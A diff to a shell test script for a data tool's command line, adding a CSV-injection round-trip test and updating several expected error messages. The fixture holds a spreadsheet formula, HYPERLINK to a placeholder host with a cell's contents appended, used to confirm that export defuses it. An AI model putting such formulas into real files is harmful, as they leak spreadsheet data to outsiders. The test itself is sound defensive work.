@@ -63,6 +63,11 @@ check "an update changed the row" grep -q 'Renamed GmbH' <("$DFNC" "${D[@]}" exp
 # commas and a newline inside fields, an empty optional one
 "$DFNC" --db rt_src.db import organisations "$HERE/data/orgs.csv" >/dev/null
 "$DFNC" --db rt_src.db import people "$HERE/data/people.csv" >/dev/null
+# a name a spreadsheet would run as a formula (CSV injection) and a description
+# that begins with a minus
+printf '%s\n' 'id,name,country,kind,sme,city,website,description' \
+    'org-f,"=HYPERLINK(""http://x.test/?""&A2,""CV"")",DE,company,1,,,-40 % weight' > formula.csv
+"$DFNC" --db rt_src.db import organisations formula.csv >/dev/null
 for kind in organisations people; do
     "$DFNC" --db rt_src.db export $kind rt_$kind.csv 2>/dev/null
     expect "$kind exported import into a fresh database" 0 'rows: [0-9]+ added, 0 updated' -- \
@@ -70,6 +75,9 @@ for kind in organisations people; do
     check "... and export again byte for byte" cmp -s rt_$kind.csv <("$DFNC" --db rt.db export $kind -)
 done
 check "... the quoted comma and the newline among them" grep -q '"Опис українською,$' rt_organisations.csv
+check "... a formula exported as text, behind an apostrophe" grep -q "^org-f,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,.*,'-40 % weight" rt_organisations.csv
+check "... and imported back without it" grep -q '"name": "=HYPERLINK(\\"http://x.test/?\\"&A2' \
+    <("$DFNC" --db rt.db export organisations - --format json)
 before=$(org_count t.db)
 
 bad() { # bad NAME KIND FILE PATTERN: refused with exit 3 and FILE:LINE, nothing written
@@ -170,9 +178,9 @@ else
     fail "DFNC_SHARED_DATA/cpv is missing"
 fi
 
-expect "an unknown export format says which" 2 'dfnc: --format is csv or json, not "xml"' -- \
+expect "an unknown export format says which" 2 'dfnc: --format is csv, json or xlsx, not "xml"' -- \
     "$DFNC" "${D[@]}" export organisations - --format xml
-expect "... before the operands too" 2 'dfnc: --format is csv or json, not "pdf"' -- \
+expect "... before the operands too" 2 'dfnc: --format is csv, json or xlsx, not "pdf"' -- \
     "$DFNC" "${D[@]}" export --format pdf organisations -
 
 # numbers past an int were cut to one in range (--fairness 4294967301 ran as 5), an
@@ -203,7 +211,7 @@ expect "serve --login-failures past an int" 2 'dfnc: --login-failures takes A:I'
 # --behind-proxy believed X-Forwarded-For from any peer; it takes the proxies'
 # addresses now, and a bare one (which would take the next option as its value)
 # says the address is required
-expect "serve --behind-proxy without an address" 2 'dfnc: --behind-proxy: "--port" is not an IPv4 or IPv6 address \(the proxies. addresses are required' -- \
+expect "serve --behind-proxy without an address" 2 'dfnc: --behind-proxy: "--port" is not an IPv4 or IPv6 address or a range such as 10.0.0.0/8 \(the proxies. addresses are required' -- \
     timeout 10 "$DFNC" "${D[@]}" serve --behind-proxy --port 0
 expect "serve --behind-proxy with a name" 2 'dfnc: --behind-proxy: "proxy.lan" is not an IPv4 or IPv6 address' -- \
     timeout 10 "$DFNC" "${D[@]}" serve --port 0 --behind-proxy 10.0.0.1,proxy.lan
@@ -255,7 +263,7 @@ for args in "import organisations adir" "import cpv adir" "import glossary adir"
             "import cordis --projects adir --participations adir" "schedule --dzn adir" \
             "partners --lead org-de --text-file adir" "partners --queries adir"; do
     # shellcheck disable=SC2086
-    expect "$args: a directory" 3 '^(dfnc: )?adir: cannot open: Is a directory$' -- "$DFNC" "${D[@]}" $args
+    expect "$args: a directory" 3 '^adir: cannot open: Is a directory$' -- "$DFNC" "${D[@]}" $args
 done
 
 # ---- the demo forum, as the acceptance checks it -------------------------------------------
